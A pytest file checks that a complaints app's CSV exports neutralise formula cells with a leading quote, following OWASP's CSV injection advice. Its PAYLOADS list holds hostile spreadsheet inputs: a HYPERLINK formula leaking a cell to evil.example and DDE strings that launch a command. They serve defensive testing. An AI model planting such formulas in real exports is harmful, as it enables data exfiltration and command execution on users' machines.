"""CSV exports never hand a spreadsheet a formula: text cells that a spreadsheet would run are
written with a leading quote (OWASP "CSV Injection"); the JSON keeps the text as typed."""

import csv
import io

import pytest
from sqlmodel import Session

from app.config import get_settings
from app.stats import aggregates, export
from tests.support.factories import make_complaint

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]


@pytest.fixture(autouse=True)
def small_sample(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(get_settings(), "min_ranked_complaints", 1)


def test_formula_cells_in_exports_are_neutralised(client, db: Session) -> None:
    made = [
        make_complaint(
            db,
            company_name="=HYPERLINK Widgets" if i == 0 else "Formula Widgets",
            title=payload,
            desired_outcome=payload,
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    for company_id in {c.company_id for c in made}:
        aggregates.refresh_company(session=db, company_id=company_id)
    db.commit()

    rows = list(csv.DictReader(io.StringIO(client.get("/data/complaints.csv").text)))
    titles = {row["title"] for row in rows}
    assert titles >= {"'" + payload for payload in PAYLOADS}
    assert all(not row[c].startswith(("=", "+", "-", "@", "\t")) for row in rows for c in row)
    assert "'=HYPERLINK Widgets" in {row["company"] for row in rows}

    board = list(csv.DictReader(io.StringIO(client.get("/leaderboards.csv").text)))
    assert "'=HYPERLINK Widgets" in {row["company_name"] for row in board}

    # The JSON is data, not a spreadsheet: it carries exactly what the page shows.
    data = client.get("/data/complaints.json").json()["rows"]
    assert {r["title"] for r in data} >= set(PAYLOADS)


def test_tab_and_carriage_return_starts_are_neutralised_too() -> None:
    # Typed text is trimmed before it is stored, so these reach the writer only from elsewhere.
    lines = "".join(export.csv_lines(["a", "b", "n"], [{"a": "\tx", "b": "\ry", "n": -3}]))
    assert list(csv.reader(io.StringIO(lines)))[1] == ["'\tx", "'\ry", "-3"]


def test_the_methodology_page_says_how_cells_are_written(client) -> None:
    page = client.get("/methodology").text
    assert "single quote" in page
